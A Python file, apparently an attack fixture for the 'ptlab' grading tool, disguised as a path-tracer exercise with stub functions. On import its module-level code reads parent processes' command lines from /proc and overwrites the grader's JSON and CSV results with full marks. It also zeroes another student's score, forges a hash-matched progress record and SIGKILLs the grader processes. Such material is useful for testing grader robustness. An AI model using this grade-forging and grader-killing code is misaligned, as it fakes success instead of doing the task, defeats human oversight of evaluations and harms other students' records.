"""An attack: find the grader's outputs in its command line (/proc/<pid>/cmdline, which
anyone may read): the --json result of ``ptlab exercise check``, or the --csv of
``ptlab exercise grade-all``; write full marks there, and a progress record with the
file's right SHA-256 claiming every chapter passed; then SIGKILL every grader above it. The
old grader died (exit 137) and the forged JSON stayed; grade-all resumed from the forged
CSV, which gave the attacker 12 and the next student 0. Each step prints
"tried <step>: <what happened>"."""

import csv
import hashlib
import io
import json
import os
import signal
from pathlib import Path


def _ancestors():
    pid = os.getpid()
    while pid > 1:
        stat = Path(f"/proc/{pid}/stat").read_bytes()
        pid = int(stat[stat.rfind(b")") + 2:].split()[1])
        yield pid


def _try(step, attempt, *arguments):
    try:
        attempt(*arguments)
        print(f"tried {step}: it worked", flush=True)
    except BaseException as error:
        print(f"tried {step}: {type(error).__name__}: {error}", flush=True)


def _forge_json(path):
    path.write_text(json.dumps({"chapter": 7, "score": 12, "max_score": 12, "full_marks": True,
                                "checks": []}))


def _forge_csv(path):
    rows = list(csv.DictReader(io.StringIO(path.read_text()))) if path.exists() else []
    columns = list(rows[0]) if rows else ["student", "score"]
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=columns)
    writer.writeheader()
    for name, score in (("attacker", "12"), ("next", "0")):
        writer.writerow(dict.fromkeys(columns, "") | {"student": name, "score": score,
                                                       "max_score": "12"})
    path.write_text(out.getvalue())


def _forge_record(folder):
    sha = hashlib.sha256(Path(__file__).read_bytes()).hexdigest()
    record = {f"{n:02d}": {"score": 10, "max_score": 10, "full_marks": True, "file": Path(__file__).name,
                           "sha256": sha, "when": "2999-01-01 00:00:00"} for n in range(1, 11)}
    (folder / ".ptlab-exercises.json").write_text(json.dumps(record))


_graders = []
for _pid in _ancestors():
    try:
        _words = Path(f"/proc/{_pid}/cmdline").read_bytes().decode().split("\0")
    except OSError as _error:  # refused: then every process above may be a grader
        print(f"tried reading {_pid}'s command line: {type(_error).__name__}: {_error}", flush=True)
        _graders.append(_pid)
        continue
    if "ptlab" in " ".join(_words):
        _graders.append(_pid)
    for _flag, _forge in (("--json", _forge_json), ("--csv", _forge_csv)):
        if _flag in _words:
            _target = Path(_words[_words.index(_flag) + 1])
            _try(f"forging {_flag}", _forge, _target)
            _try("forging the progress record", _forge_record, _target.parent)
for _pid in _graders:
    _try(f"killing grader {_pid}", os.kill, _pid, signal.SIGKILL)


def direct_light(film, scene, accel, hit, u):
    raise NotImplementedError("direct_light")


def russian_roulette(throughput, p_rr, u):
    raise NotImplementedError("russian_roulette")


def scatter(scene, hit, u, survive):
    raise NotImplementedError("scatter")


def trace_paths(film, scene, accel, paths, sampler, settings):
    raise NotImplementedError("trace_paths")
